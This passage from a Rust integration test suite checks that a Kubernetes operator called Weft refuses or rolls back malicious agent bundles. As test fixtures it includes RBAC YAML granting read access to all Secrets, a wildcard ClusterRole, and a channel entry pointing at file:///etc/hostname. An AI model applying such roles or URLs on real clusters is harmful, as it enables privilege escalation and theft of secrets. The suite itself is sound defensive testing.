    let wc = ns.api::<WeaveCloud>().get("weave-cloud").await.unwrap();
    (ns, wc)
}

fn updater(ns: &TestNamespace, allowed: &str, health_timeout: Duration) -> Updater {
    let state = DaemonState::new(ns.client(), ns.name(), DaemonStatus::default())
        .with_watch_namespaces(WatchNamespaces::only([ns.name()]));
    Updater::new(
        state,
        UpdateOptions {
            pass: std::sync::Arc::new(weft::pass::PassSettings {
                weft_namespace: ns.name().to_string(),
                poll_interval: Duration::from_millis(500),
                ..Default::default()
            }),
            health_timeout,
            allowed_channels: ChannelPolicy {
                allowed: Some(UrlAllowList::parse(allowed).expect("prefix")),
            },
            ..Default::default()
        },
    )
}

async fn fresh(ns: &TestNamespace) -> WeaveCloud {
    ns.api::<WeaveCloud>().get("weave-cloud").await.unwrap()
}

fn append(files: &mut BTreeMap<String, Vec<u8>>, path: &str, text: &str) {
    let mut bytes = files[path].clone();
    bytes.extend_from_slice(text.as_bytes());
    files.insert(path.to_string(), bytes);
}

async fn notes(ns: &TestNamespace, reason: &str) -> Vec<String> {
    ns.api::<Event>()
        .list(&Default::default())
        .await
        .unwrap()
        .items
        .into_iter()
        .filter(|e| e.reason.as_deref() == Some(reason))
        .filter_map(|e| e.note)
        .collect()
}

#[tokio::test]
async fn a_bundle_role_beyond_its_agent_s_needs_is_refused_before_anything_is_applied() {
    // A launcher flux another test puts into kube-system holds every undesignated
    // WeaveCloud (issue 44 item 2): not at the same time.
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let server = ChannelServer::start();
    let mut files = bundle_files("1.1.0");
    // prometheus' files bring a role that reads any Secret by name: its roleRef and subject
    // are the bundle's own (they passed before), its rules are not what prometheus needs.
    append(
        &mut files,
        "prometheus/rbac.yaml",
        "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: weave-cortex-secrets}\nrules:\n  - apiGroups: ['']\n    resources: [secrets]\n    verbs: [get]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: weave-cortex-secrets}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: weave-cortex-secrets}\nsubjects: [{kind: ServiceAccount, name: weave-cortex}]\n",
    );
    server.publish(&[Published::new("1.1.0", &files)]);
    let (ns, wc) = channel_weavecloud("attack-bundle-rbac", &server.channel_url()).await;
    let updater = updater(&ns, &server.url(""), Duration::from_secs(20));
    updater.apply_active(&wc).await.unwrap();
    let report = updater.check(&fresh(&ns).await).await;
    match &report.outcome {
        UpdateOutcome::Refused { version, reason } => {
            assert_eq!(version, "1.1.0");
            assert!(
                reason.contains(
                    "ClusterRole `weave-cortex-secrets`: `rules[0]` grants `get` on `secrets`"
                ),
                "{reason}"
            );
            eprintln!("refused: {reason}");
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    let roles: Api<ClusterRole> = Api::all(ns.client());
    let name = format!("weave-cortex-secrets:{}", ns.name());
    assert!(
        roles.get_opt(&name).await.unwrap().is_none(),
        "{name} applied"
    );
    assert_eq!(report.current, "1.0.0", "nothing rolled out");
    ns.delete().await;
}

#[tokio::test]
async fn a_rolled_back_bundle_leaves_none_of_its_objects_behind() {
    // A launcher flux another test puts into kube-system holds every undesignated
    // WeaveCloud (issue 44 item 2): not at the same time.
    let _turn = KUBE_SYSTEM_TURN.lock().await;
    let server = ChannelServer::start();
    let mut files = broken_bundle_files("1.2.0");
    // Within flux's allow-list (the built-in flux role's rules, exactly), and new in this bundle.
    append(
        &mut files,
        "flux/rbac.yaml",
        "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: weave-flux-extra}\nrules:\n  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: weave-flux-extra}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: weave-flux-extra}\nsubjects: [{kind: ServiceAccount, name: weave-flux}]\n",
    );
    server.publish(&[Published::new("1.2.0", &files)]);
    let (ns, wc) = channel_weavecloud("attack-rollback", &server.channel_url()).await;
    let updater = updater(&ns, &server.url(""), Duration::from_secs(15));
    updater.apply_active(&wc).await.unwrap();
    let name = format!("weave-flux-extra:{}", ns.name());
    let report = updater.check(&fresh(&ns).await).await;
    assert!(
        matches!(report.outcome, UpdateOutcome::RolledBack { .. }),
        "{:?}",
        report.outcome
    );
    let roles: Api<ClusterRole> = Api::all(ns.client());
    let bindings: Api<ClusterRoleBinding> = Api::all(ns.client());
    // (Weft before issue 30 named them `<name>-<namespace>`.)
    let old_name = format!("weave-flux-extra-{}", ns.name());
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let mut left_role = false;
        let mut left_binding = false;
        for n in [&name, &old_name] {
            left_role |= roles.get_opt(n).await.unwrap().is_some();
            left_binding |= bindings.get_opt(n).await.unwrap().is_some();
        }
        if !left_role && !left_binding {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "after AgentUpdateRolledBack: role left {left_role}, binding left {left_binding}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    ns.delete().await;
}

/// deploy/'s RBAC (as `weft install` writes it) for a ServiceAccount `weft` in `namespace`, the
/// agents' role names in its `escalate`/`bind` rule renamed for WeaveClouds in `namespace` (as
/// 11-rbac-agents.yaml tells the operator to), applied with `admin`. Returns Weft's client, once
/// the authorizer grants it `escalate` on flux's role; the cluster-scoped objects are deleted
/// when the returned guard drops.
async fn as_weft_with_deploy_rbac(admin: &Client, namespace: &str) -> (Client, ClusterRbacCleanup) {
    as_weft_with_deploy_rbac_unlisted(admin, namespace, &[]).await
}

/// [`as_weft_with_deploy_rbac`], the roles named in `unlisted` (`weave-scope`) left out of
/// its `escalate`/`bind` rule: Weft may write them only with rules it holds itself.
async fn as_weft_with_deploy_rbac_unlisted(
    admin: &Client,
    namespace: &str,
    unlisted: &[&str],
) -> (Client, ClusterRbacCleanup) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_weft"))
        .args([
            "install",
            "-o",
            "yaml",
            "--skip-crds",
            "--weft-namespace",
            namespace,
        ])
        .output()
        .expect("weft install");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .filter(|l| !unlisted.iter().any(|u| l.trim() == format!("- {u}:weave")))
        .map(|l| format!("{l}\n"))
        .collect::<String>()
        .replace(":weave\n", &format!(":{namespace}\n"));
    let docs: Vec<serde_json::Value> = serde_saphyr::from_multiple(&text).expect("YAML");
    let mut cleanup = ClusterRbacCleanup(Vec::new());
    let pp = PatchParams::apply("weft-test").force();
    for o in docs.into_iter().filter(|d| {
        d["apiVersion"] == "rbac.authorization.k8s.io/v1" || d["kind"] == "ServiceAccount"
    }) {
        let kind = o["kind"].as_str().expect("kind").to_string();
        let name = o["metadata"]["name"].as_str().expect("name").to_string();
        let (group, version) = match kind.as_str() {
            "ServiceAccount" => ("", "v1"),
            _ => ("rbac.authorization.k8s.io", "v1"),
        };
        let ar = kube::api::ApiResource::from_gvk(&kube::api::GroupVersionKind::gvk(
            group, version, &kind,
        ));
        let api: Api<kube::api::DynamicObject> = match kind.as_str() {
            "ClusterRole" | "ClusterRoleBinding" => {
                cleanup.0.push(format!("{}/{name}", kind.to_lowercase()));
                Api::all_with(admin.clone(), &ar)
            }
            _ => Api::namespaced_with(admin.clone(), namespace, &ar),
        };
        api.patch(&name, &pp, &Patch::Apply(&o))
            .await
            .unwrap_or_else(|e| panic!("{kind} {name}: {e}"));
    }
    let user = format!("system:serviceaccount:{namespace}:weft");
    let weft = client_as(&user).await;
    let flux_role = format!("weave-flux:{namespace}");
    wait_until_granted(
        &weft,
        &user,
        &[
            Access::new("escalate", "clusterroles.rbac.authorization.k8s.io", None)
                .named(&flux_role),
            Access::new("patch", "weaveclouds.cloud.weave.works", Some(namespace))
                .subresource("status"),
        ],
    )
    .await;
    (weft, cleanup)
}

/// Deletes the named cluster-scoped objects (`kind/name`) when dropped, a failed assertion
/// included: the shared cluster keeps no leftovers of a failed run.
struct ClusterRbacCleanup(Vec<String>);

impl Drop for ClusterRbacCleanup {
    fn drop(&mut self) {
        let _ = std::process::Command::new("kubectl")
            .args(support::cluster::cluster().kube_args())
            .args(["delete", "--ignore-not-found", "--wait=false"])
            .args(&self.0)
            .output();
    }
}

/// Issue 48 item 3, with Weft as its ServiceAccount under deploy/'s RBAC (not as the test's
/// admin): a bundle that narrows flux's role, binds it once more and never becomes healthy is
/// rolled back to the last rule, binding and pod of the bundle before it, and nothing of it
/// stays.
#[tokio::test]
async fn a_rolled_back_bundle_is_undone_as_weft_s_service_account() {
    let server = ChannelServer::start();
    let mut files = broken_bundle_files("1.2.0");
    let rbac = String::from_utf8(files["flux/rbac.yaml"].clone()).unwrap();
    // flux's role without its non-resource rule (each rule the built-in one, as the allow-list
    // requires), and a second binding of flux's role.
    let narrowed = rbac.replacen("  - nonResourceURLs: ['*']\n    verbs: ['*']\n", "", 1);
    assert_ne!(
        narrowed, rbac,
        "agents/flux/rbac.yaml changed: adapt the test"
    );
    files.insert("flux/rbac.yaml".into(), narrowed.into_bytes());
    append(
        &mut files,
        "flux/rbac.yaml",
        "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: weave-flux-again}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: weave-flux}\nsubjects: [{kind: ServiceAccount, name: weave-flux}]\n",
    );
    server.publish(&[Published::new("1.2.0", &files)]);
    let (ns, wc) = channel_weavecloud("attack-rollback-sa", &server.channel_url()).await;
    let (weft, _cleanup) = as_weft_with_deploy_rbac(&ns.client(), ns.name()).await;
    let state = DaemonState::new(weft, ns.name(), DaemonStatus::default())
        .with_watch_namespaces(WatchNamespaces::only([ns.name()]));
    let updater = Updater::new(
        state,
        UpdateOptions {
            pass: std::sync::Arc::new(weft::pass::PassSettings {
                weft_namespace: ns.name().to_string(),
                poll_interval: Duration::from_millis(500),
                ..Default::default()
            }),
            health_timeout: Duration::from_secs(15),
            allowed_channels: ChannelPolicy {
                allowed: Some(UrlAllowList::parse(&server.url("")).expect("prefix")),
            },
            ..Default::default()
        },
    );
    updater
        .apply_active(&wc)
        .await
        .expect("the built-in agents, as Weft");
    let roles: Api<ClusterRole> = Api::all(ns.client());
    let bindings: Api<ClusterRoleBinding> = Api::all(ns.client());
    let flux_role = format!("weave-flux:{}", ns.name());
    let before = roles.get(&flux_role).await.unwrap().rules;
    assert_eq!(before.as_ref().map(Vec::len), Some(2), "{before:?}");

    let report = updater.check(&fresh(&ns).await).await;
    let UpdateOutcome::RolledBack { reason, .. } = &report.outcome else {
        panic!("expected a rollback, got {:?}", report.outcome);
    };
    eprintln!("rolled back: {reason}");
    assert!(
        !reason.contains("not healthy either") && !reason.contains("could not"),
        "the rollback did not restore the bundle before it: {reason}"
    );
    assert_eq!(
        roles.get(&flux_role).await.unwrap().rules,
        before,
        "flux's role is not the one of the bundle before"
    );
    let binding = bindings.get(&flux_role).await.expect("flux's binding");
    assert_eq!(binding.role_ref.name, flux_role);
    let again = format!("weave-flux-again:{}", ns.name());
    let deadline = Instant::now() + Duration::from_secs(10);
    while bindings.get_opt(&again).await.unwrap().is_some() {
        assert!(
            Instant::now() < deadline,
            "{again}, of the refused bundle, is still there"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let flux: Deployment = ns.api::<Deployment>().get(FLUX).await.unwrap();
    let image = flux.spec.unwrap().template.spec.unwrap().containers[0]
        .image
        .clone();
    assert_eq!(
        image.as_deref(),
        Some(channel_fixtures::BUILTIN_FLUX_IMAGE),
        "flux runs the refused bundle's image"
    );
    ns.delete().await;
}

#[tokio::test]
async fn a_channel_s_bundle_urls_pass_the_channel_policy() {
    let server = ChannelServer::start();
    // Another port on the same host, which the operator did not allow: nothing may connect.
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let other_url = format!("http://{}/agents-1.2.0.tar.gz", other.local_addr().unwrap());
    let hostname = std::fs::read("/etc/hostname").ok();
    let digest = hostname
        .as_deref()
        .map(|b| hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b)));
    server.put(
        "channel.yaml",
        format!(
            "channel: evil\nbundles:\n  - version: 1.1.0\n    url: file:///etc/hostname\n    sha256: {}\n",
            "0".repeat(64)
        )
        .into_bytes(),
    );
    let (ns, wc) = channel_weavecloud("attack-bundle-url", &server.channel_url()).await;
    let updater = updater(&ns, &server.url(""), Duration::from_secs(20));
    updater.apply_active(&wc).await.unwrap();
    let report = updater.check(&fresh(&ns).await).await;
    match &report.outcome {
        UpdateOutcome::Refused { reason, .. } => {
            assert!(
                reason.contains("`url: file:///etc/hostname` is not allowed by --allowed-channels"),
                "{reason}"
            );
            if let Some(d) = &digest {
                assert!(!reason.contains(d.as_str()), "the file was read: {reason}");
            }
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    if let Some(d) = &digest {
        for n in notes(&ns, "AgentBundleRefused").await {
            assert!(
                !n.contains(d.as_str()),
                "a tenant-visible event shows the file's digest: {n}"
            );
        }
    }

    server.put(
        "channel.yaml",
        format!(
            "channel: evil\nbundles:\n  - version: 1.2.0\n    url: {other_url}\n    sha256: {}\n",
            "0".repeat(64)
        )
        .into_bytes(),
    );
    let report = updater.check(&fresh(&ns).await).await;
    match &report.outcome {
        UpdateOutcome::Refused { reason, .. } => {
            assert!(
                reason.contains("is not allowed by --allowed-channels"),
                "{reason}"
            )
        }
        other => panic!("expected a refusal, got {other:?}"),
    }
    assert!(
        matches!(other.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "Weft connected to a port the operator did not allow"
    );
    ns.delete().await;
}
